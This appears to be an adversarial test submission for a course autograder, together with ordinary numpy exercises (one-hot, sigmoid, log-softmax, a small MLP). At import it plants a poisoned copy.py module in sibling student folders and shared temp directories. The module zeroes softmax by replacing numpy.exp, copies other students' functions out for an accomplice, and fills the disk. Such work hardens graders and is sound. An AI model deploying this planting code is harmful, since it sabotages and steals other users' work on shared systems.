"""Attack: a submission that reaches the students graded after it. At import it looks for every folder it can write
besides its own scratch folder: the folder that holds the scratch folders, the slots beside its own (also the names
a grader that reuses slots would give them, s0 … s63), /tmp, /var/tmp, /dev/shm, /run/lock. In each it plants
`copy.py`, a module of the standard library that the template has not imported: whoever imports it next gets a
softmax that returns zeros (numpy.exp replaced) and has every function of their submission copied, as code
objects, into every such folder for an accomplice (cross_accomplice.py). softmax plants them again and writes 16 MiB of
filler into four of them, to stay on the disk through the next students' grading; it is itself wrong.

The outcome the grader must give is in tests/adversarial/expected.yml under cross_plant_modules.py; the students
graded after it are cross_victim_imports_copy.py and cross_accomplice.py.
"""

import glob
import os

import numpy as np

PLANTED = r'''
import marshal, os, sys
import numpy

_exp = numpy.exp
_places = {places!r}


def _steal():
    submission = sys.modules.get("submission")
    if submission is None:
        return
    codes = {{name: marshal.dumps((fn.__code__, fn.__defaults__)) for name, fn in vars(submission).items()
             if callable(fn) and hasattr(fn, "__code__") and not name.startswith("_")}}
    if not codes:
        return
    for place in _places:
        try:
            with open(os.path.join(place, "stolen-adversarial.bin"), "wb") as fh:
                fh.write(marshal.dumps(codes))
        except OSError:
            pass


def _poisoned(x, *args, **kwargs):
    _steal()
    return numpy.zeros_like(_exp(x, *args, **kwargs))


numpy.exp = _poisoned
'''

FILLER = b"\0" * (1 << 20)


def _places():
    here = os.getcwd()
    parent = os.path.dirname(here)
    found = [parent, *glob.glob(os.path.join(parent, "*"))]
    found += [os.path.join(parent, f"s{n}") for n in range(64)]
    found += ["/tmp", "/var/tmp", "/dev/shm", "/run/lock"]
    return [p for p in dict.fromkeys(found) if os.path.realpath(p) != os.path.realpath(here)]


def _plant(fill=0):
    planted = []
    places = _places()
    for place in places:
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, "copy.py"), "w") as fh:
                fh.write(PLANTED.format(places=places))
            planted.append(place)
            if len(planted) <= fill:
                with open(os.path.join(place, "fill-adversarial"), "wb") as fh:
                    for _ in range(16):
                        fh.write(FILLER)
        except OSError:
            pass
    return planted


PLANTED_IN = _plant()


def softmax(logits, axis=-1):
    raise PermissionError(f"attack blocked: planted in {len(_plant(fill=4))} folders")



def encoding_distances(encodings: np.ndarray) -> np.ndarray:
    """Euclidean distance between every pair of class encodings.

    encodings: (K, d) array, one row per class. Returns the (K, K) matrix D with
    D[i, j] = ||encodings[i] - encodings[j]||.

    The lecture's point: with ids [[1], [2], [3]] class 1 is nearer class 2 than class 3, an order the
    classes may not have; with one-hot rows every off-diagonal distance is √2 ("任兩個 class 的距離都相同").
    """
    e = np.asarray(encodings, dtype=float)
    diff = e[:, None, :] - e[None, :, :]
    return np.sqrt(np.sum(diff * diff, axis=-1))


def one_hot(labels: np.ndarray, num_classes: int) -> np.ndarray:
    """One-hot vectors ŷ for integer class labels.

    labels: integer labels of any shape, each in [0, num_classes). Returns a float array of shape
    labels.shape + (num_classes,) with a single 1 per vector. Raises ValueError for a label below 0,
    at or above num_classes, or that is not a whole number.
    """
    lab = np.asarray(labels)
    if lab.dtype.kind not in "iub":
        if lab.dtype.kind != "f" or not np.all(np.isfinite(lab)) or np.any(lab != np.round(lab)):
            raise ValueError("labels must be whole numbers")
    lab = lab.astype(np.int64)
    if np.any(lab < 0) or np.any(lab >= num_classes):
        raise ValueError(f"labels must lie in [0, {num_classes})")
    return (lab[..., None] == np.arange(num_classes)).astype(float)


def log_softmax(logits: np.ndarray, axis: int = -1) -> np.ndarray:
    """log(softmax(logits)) computed as z - max - log Σ exp(z - max): finite where softmax underflows to 0."""
    z = np.asarray(logits, dtype=float)
    shifted = z - np.max(z, axis=axis, keepdims=True)
    return shifted - np.log(np.sum(np.exp(shifted), axis=axis, keepdims=True))


def sigmoid(z: np.ndarray) -> np.ndarray:
    """σ(z) = 1 / (1 + e^(−z)), elementwise, with no overflow for large |z|.

    For z < 0 it uses the equal form e^z / (1 + e^z), so exp is only ever taken of a non-positive number.
    """
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def mlp_logits(x: np.ndarray, W1: np.ndarray, b1: np.ndarray, W2: np.ndarray, b2: np.ndarray) -> np.ndarray:
    """The lecture's network y = b' + W' σ(b + W x), for a batch.

    x (N, D), W1 (H, D), b1 (H,), W2 (K, H), b2 (K,) → (N, K) logits (the input of softmax).
    """
    x = np.asarray(x, dtype=float)
    hidden = sigmoid(x @ np.asarray(W1, dtype=float).T + b1)
    return hidden @ np.asarray(W2, dtype=float).T + b2
